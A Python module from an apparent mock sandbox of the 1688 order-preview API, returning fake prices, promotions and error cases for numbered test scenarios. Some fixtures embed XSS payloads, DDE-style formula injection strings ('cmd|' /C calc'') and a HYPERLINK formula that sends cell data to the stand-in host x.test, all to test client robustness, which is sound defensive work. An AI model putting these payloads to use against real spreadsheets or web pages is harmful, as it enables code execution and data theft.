"""The sandbox's *Preview order* (`POST /alibaba/createOrder/preview`): prices, records,
offer lists and every scenario of the conventions table (the package's docstring).

Deterministic from its input: the same request gets the same answer, but for the
scenarios that change on the second call (954, 960).
"""

from __future__ import annotations

import hashlib
import json
import time
from decimal import Decimal
from urllib.parse import quote, urlencode

from .server import Refusal, Trickled, encode, seller_of

PREVIEW_PATH = "/alibaba/createOrder/preview"
EXAMPLE_OFFER = 670291644950
# Scenario 963: texts a spreadsheet would run as formulas (CSV/XLSX injection).
FORMULA_SPEC = '=HYPERLINK("http://x.test/?"&A1,"1688")'
FORMULA_MESSAGE = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_PROMOTION = "+cmd|' /C calc'!A0"
EXAMPLE_SPEC = "594b40c111b019af610a0078e4316373"
SHOP_THRESHOLD_FEN = 30000
SHOP_DISCOUNT_FEN = 2000
FREE_CARRIAGE_FROM_FEN = 50000
TRADE_MODE = {
    "tradeWay": None,
    "name": "担保交易",
    "tradeType": "assureTrade",
    "description": (
        "买家下单后5天内支付全款,逾期付款,交易关闭。付款成功后卖家发货,买家在10天内确认收货。"
    ),
    "opSupport": True,
}
PAY_CHANNELS = [{"name": "alipay", "amountLimit": None}, {"name": "shegou", "amountLimit": 30000}]


def scenario_of(offer_id: int) -> int:
    # The reference's own example offer ends in 950; it must stay the worked example.
    return 0 if offer_id == EXAMPLE_OFFER else offer_id % 1000


def unit_price_fen(offer_id: int, spec_id: str | None) -> int:
    if offer_id == EXAMPLE_OFFER:
        return 1390
    digest = hashlib.sha256(f"{offer_id}:{spec_id or ''}".encode()).digest()
    return 100 + int.from_bytes(digest[:4], "big") % 20000


def has_plus_promotion(offer_id: int) -> bool:
    return offer_id == EXAMPLE_OFFER or (offer_id // 100) % 2 == 0


def yuan(fen: int) -> Decimal:
    return (Decimal(fen) / 100).normalize() if fen % 100 else Decimal(fen // 100)


def echo_message(raw: bytes) -> str:
    """What a careless proxy says back (scenario 958): the body as it came, then the
    credentials as it would put them in a query string, a path, its own JSON log, and raw."""
    request = json.loads(raw)
    key, secret = str(request.get("appKey") or ""), str(request.get("appSecret") or "")
    return (
        f"请求内容: {raw.decode(errors='replace')}"
        f" 查询串: {urlencode({'appKey': key, 'appSecret': secret})}"
        f" 路径: /{quote(key, safe='')}/{quote(secret)}"
        f" 日志: {json.dumps({'appKey': key, 'appSecret': secret}, ensure_ascii=False)}"
        f" 凭据: {key} {secret}"
    )


class PreviewOrder:
    """The preview endpoint, mixed into the sandbox (server.Gateway gives `envelope`,
    `first_time`, `fingerprint`, `strict_order` and the options)."""

    def line_unit_fen(self, offer_id: int, spec_id: str | None, offer_total: int) -> int:
        """One piece's price, in fen; `offer_total`: the offer's quantity in the request
        (the catalogue's tiers, products.py, price by it)."""
        return unit_price_fen(offer_id, spec_id)

    def line_problem(
        self, offer_id: int, spec_id: str | None, quantity: int, offer_total: int
    ) -> tuple[str, str, bool] | None:
        """(code, message, on the line too) when a line cannot be ordered (the catalogue's
        stock and minimum, products.py); None when it can."""
        return None

    def record_problem(self, lines: list, goods_fen: int) -> tuple[str, str] | None:
        """(code, message) when a record cannot be ordered as a whole (a shop's mixed batch)."""
        return None

    def refusal(self, code: str, message: str, trace_id: str) -> dict:
        return self.envelope(
            {
                "orderPreviewResuslt": None,
                "success": False,
                "errorCode": code,
                "errorMsg": message,
                "postFeeByDescOfferList": None,
                "consignOfferList": None,
                "unsupportedCrossBorderPayOfferList": [],
            },
            trace_id=trace_id,
        )

    def answer_preview(self, request: dict, raw: bytes, trace_id: str) -> tuple[int, str, bytes]:
        """(HTTP status, content type, body) for one preview request."""
        cargo = request.get("cargoParamList")
        scenarios = set()
        if isinstance(cargo, list):
            scenarios = {
                scenario_of(c["offerId"])
                for c in cargo
                if isinstance(c, dict) and isinstance(c.get("offerId"), int)
            }
        failure = self.transport_failure(scenarios, raw, trace_id)
        if failure:
            return failure
        try:
            data = self.preview(request)
        except Refusal as refusal:
            return (
                200,
                "application/json",
                encode(self.refusal(refusal.code, refusal.message, trace_id)),
            )
        body = encode(self.envelope(data, trace_id=trace_id))
        if 962 in scenarios:
            body = Trickled(body, self.trickle)
        return 200, "application/json", body

    def transport_failure(self, scenarios: set[int], raw: bytes, trace_id: str):
        if 952 in scenarios:
            time.sleep(self.slow)
        if 950 in scenarios:
            html = b"<html><head><title>500 Internal Server Error</title></head>"
            html += b"<body><h1>nginx</h1></body></html>"
            return 500, "text/html", html
        if 951 in scenarios:
            return 429, "text/plain", b"Too Many Requests"
        if 965 in scenarios:
            return 502, "text/plain", b"upstream\x00 failed"
        if 953 in scenarios:
            return (
                200,
                "text/html",
                b"<html><body>Bad gateway: upstream returned garbage</body></html>",
            )
        if 954 in scenarios and self.first_time(self.fingerprint(raw)):
            return (
                503,
                "text/html",
                b"<html><body>503 Service Temporarily Unavailable</body></html>",
            )
        if 955 in scenarios:
            nested = {
                "result": {
                    "success": False,
                    "errorInfo": "订单信息不存在,请核对后重试",
                    "errorCode": "4003",
                }
            }
            return (
                200,
                "application/json",
                encode(self.envelope(nested, code=1009, message="预览订单失败", trace_id=trace_id)),
            )
        if 956 in scenarios:
            return (
                200,
                "application/json",
                encode(
                    {
                        "code": 200,
                        "message": "操作成功",
                        "timestamp": int(time.time() * 1000),
                        "traceId": trace_id,
                    }
                ),
            )
        if 961 in scenarios or (960 in scenarios and self.first_time(self.fingerprint(raw))):
            busy = self.envelope(None, code=500, message="系统繁忙,请稍后再试", trace_id=trace_id)
            return 200, "application/json", encode(busy)
        if 958 in scenarios:
            echoed = self.refusal("ECHO", echo_message(raw), trace_id)
            return 200, "application/json", encode(echoed)
        if 957 in scenarios:
            body = {
                "error_code": "gw.QosAppFrequencyLimit",
                "error_message": "App call exceeds limited frequency",
            }
            return 400, "application/json", encode(body)
        return None

    def preview(self, request: dict) -> dict:
        flow, lines = self.strict_order(request)
        scenarios = {scenario_of(o) for o, _, _ in lines}
        if 901 in scenarios:
            raise Refusal("500_001", "该商品不支持在线交易")
        if 903 in scenarios:
            raise Refusal("500_003", "规格不属于该商品")
        if flow == "saleproxy" and not all(840 <= s <= 849 for s in scenarios):
            raise Refusal("500_007", "没有代销关系,不能使用saleproxy流程")
        groups: dict[int, list] = {}
        for line in lines:
            groups.setdefault(1 if 700 <= scenario_of(line[0]) <= 799 else 0, []).append(line)
        records = [self.record(group, flow or "general") for _, group in sorted(groups.items())]
        offers = [o for o, _, _ in lines]
        return {
            "orderPreviewResuslt": records,
            "success": True,
            "errorCode": None,
            "errorMsg": None,
            "postFeeByDescOfferList": [str(o) for o in offers if 810 <= scenario_of(o) <= 819]
            or None,
            "consignOfferList": [str(o) for o in offers if 840 <= scenario_of(o) <= 849] or None,
            "unsupportedCrossBorderPayOfferList": [
                str(o) for o in offers if 820 <= scenario_of(o) <= 829
            ],
        }

    def record(self, lines: list, flow: str) -> dict:
        cargo_list = []
        goods_fen = 0
        status, message, result_code = True, None, None
        offer_totals: dict[int, int] = {}  # every line of an offer is in the same record
        for offer_id, _spec, quantity in lines:
            offer_totals[offer_id] = offer_totals.get(offer_id, 0) + quantity
        for offer_id, spec_id, quantity in lines:
            unit = self.line_unit_fen(offer_id, spec_id, offer_totals[offer_id])
            gross = unit * quantity
            promotions = []
            discount = 0
            if scenario_of(offer_id) == 959:
                promotions.append(
                    {
                        "promotionId": f"xss-{offer_id}",
                        "selected": False,
                        "text": "<b>限时</b>优惠<script>window.__xss='text'</script>",
                        "desc": (
                            "<p onclick=\"window.__xss='click'\">限时优惠</p>"
                            "<img src=x onerror=\"window.__xss='img'\">"
                            "<script>window.__xss='script'</script>"
                            "<a href=\"javascript:window.__xss='link'\">详情</a>"
                        ),
                        "freePostage": False,
                        "discountFee": 0,
                    }
                )
            if scenario_of(offer_id) == 963:
                promotions.append(
                    {
                        "promotionId": f"formula-{offer_id}",
                        "selected": False,
                        "text": FORMULA_PROMOTION,
                        "desc": "",
                        "freePostage": False,
                        "discountFee": 0,
                    }
                )
            if scenario_of(offer_id) == 864:
                promotions.append(
                    {
                        "promotionId": f"free-postage-{offer_id}",
                        "selected": True,
                        "text": "限时包邮",
                        "desc": "<p>限时包邮</p>",
                        "freePostage": True,
                        "discountFee": None,
                    }
                )
            if has_plus_promotion(offer_id):
                discount = 69 * quantity if offer_id == EXAMPLE_OFFER else (gross * 5 + 50) // 100
                promotions.append(
                    {
                        "promotionId": f"plus-{seller_of(offer_id)}-{offer_id}",
                        "selected": False,
                        "text": f"省{yuan(discount)}:PLUS会员价",
                        "desc": f"<ul><li>PLUS会员价:省{yuan(discount)}元</li></ul>",
                        "freePostage": False,
                        "discountFee": discount,
                    }
                )
            amount_fen = gross - discount
            goods_fen += amount_fen
            line = {
                "amount": yuan(amount_fen),
                "message": None,
                "finalUnitPrice": yuan(unit),
                "specId": spec_id,
                "skuId": int(hashlib.sha256(f"{offer_id}{spec_id}".encode()).hexdigest()[:12], 16),
                "resultCode": None,
                "offerId": offer_id,
                "cargoPromotionList": promotions,
                "openOfferId": "/"
                + hashlib.md5(str(offer_id).encode(), usedforsecurity=False).hexdigest()[:22]
                + "==",
            }
            scenario = scenario_of(offer_id)
            if scenario == 963:
                line["specId"], line["message"] = FORMULA_SPEC, FORMULA_MESSAGE
            if scenario == 964:
                line["message"] = "库存\u0000紧张\u001b[31m"
            if scenario == 904:
                line["resultCode"] = "500_004"
                line["message"] = (
                    f"商品{offer_id}" + (f"_{spec_id}" if spec_id else "") + "库存不足"
                )
                status, message, result_code = False, "库存不足", "500_004"
            if scenario == 905 and quantity < 10:
                status, message, result_code = False, f"商品{offer_id}未达到最小起订量10", "500_005"
            problem = self.line_problem(offer_id, spec_id, quantity, offer_totals[offer_id])
            if problem:
                result_code, message, on_line = problem
                status = False
                if on_line:
                    line["resultCode"], line["message"] = result_code, message
            cargo_list.append(line)
        if any(scenario_of(o) == 906 for o, _, _ in lines) and goods_fen < 100000:
            status, message, result_code = False, "未达到店铺混批条件(满1000元)", "500_006"
        problem = self.record_problem(lines, goods_fen)
        if problem:
            status, (result_code, message) = False, problem
        record_scenarios = {scenario_of(o) for o, _, _ in lines}
        carriage = 0 if goods_fen >= FREE_CARRIAGE_FROM_FEN else 350 + 100 * (len(lines) - 1)
        if record_scenarios & {863, 864}:
            carriage = 0
        shop_promotions = []
        if 863 in record_scenarios:
            shop_promotions.append(
                {
                    "promotionId": f"shop-{seller_of(lines[0][0])}-free-postage",
                    "selected": True,
                    "text": "满2件包邮",
                    "desc": "<p>店铺满2件包邮</p>",
                    "freePostage": True,
                    "discountFee": None,
                }
            )
        record_discount = None
        if goods_fen >= SHOP_THRESHOLD_FEN:
            record_discount = SHOP_DISCOUNT_FEN
            shop_promotions.append(
                {
                    "promotionId": f"shop-{seller_of(lines[0][0])}-300-20",
                    "selected": True,
                    "text": "满300减20",
                    "desc": "<p>店铺满<b>300</b>元减<b>20</b>元</p>",
                    "freePostage": False,
                    "discountFee": SHOP_DISCOUNT_FEN,
                }
            )
        no_carriage = goods_fen - (record_discount or 0)
        payment = no_carriage + carriage
        if 860 in record_scenarios:
            # 1688's documented reading: discountFee is taken after the goods subtotal.
            coupon = 500
            shop_promotions.append(
                {
                    "promotionId": f"shop-{seller_of(lines[0][0])}-coupon-5",
                    "selected": True,
                    "text": "店铺券减5元",
                    "desc": "<p>店铺优惠券:减5元</p>",
                    "freePostage": False,
                    "discountFee": coupon,
                }
            )
            record_discount = (record_discount or 0) + coupon
            no_carriage = goods_fen
            payment = goods_fen - record_discount + carriage
        additional = 300 if 861 in record_scenarios else None
        payment += additional or 0
        if 862 in record_scenarios:
            payment += 37  # the gateway's own inconsistency, for the pages to show
        no_trade_mode = {s for s in record_scenarios if 830 <= s <= 839}
        spelt_null = any(s >= 835 for s in no_trade_mode)
        return {
            "discountFee": record_discount,
            "tradeModeNameList": None if spelt_null else [] if no_trade_mode else ["assureTrade"],
            "status": status,
            "taoSampleSinglePromotion": False,
            "sumPayment": payment,
            "message": message,
            "sumCarriage": carriage,
            "resultCode": result_code,
            "sumPaymentNoCarriage": no_carriage,
            "additionalFee": additional,
            "flowFlag": flow,
            "cargoList": cargo_list,
            "shopPromotionList": shop_promotions,
            "tradeModelList": None if spelt_null else [] if no_trade_mode else [TRADE_MODE],
            "payChannelList": None,
            "payChannelInfos": PAY_CHANNELS,
        }
